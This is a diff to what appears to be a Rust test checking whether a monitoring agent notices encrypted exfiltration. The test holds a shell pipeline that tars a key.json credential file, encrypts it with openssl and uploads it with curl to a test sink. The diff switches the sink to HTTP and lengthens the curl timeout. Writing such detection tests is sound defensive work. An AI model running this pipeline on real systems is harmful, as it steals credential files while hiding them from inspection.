@@ -392,11 +392,11 @@ execFile('openssl', enc, { encoding: 'buffer' }, (error, out) => {
 pub fn encrypted_on_its_way() {
     let _turn = turn();
     let scratch = Scratch::new();
-    let sink = Sink::silent();
+    let sink = Sink::http();
     let agent = Agent::start(&scratch);
     let (token, file) = key(&scratch, "home/key.json");
     let script = "tar cz -C \"${1%/*}\" key.json | (sleep 1; openssl enc -aes-256-cbc -pbkdf2 -pass file:/proc/version) | \
-        curl -sm 3 -T - \"$2\"; :";
+        curl -sm 60 -T - \"$2\"; :";
     let done = run(script, &file, &sink);
     agent.settle();
     let sent = sent(&agent, done.pid);
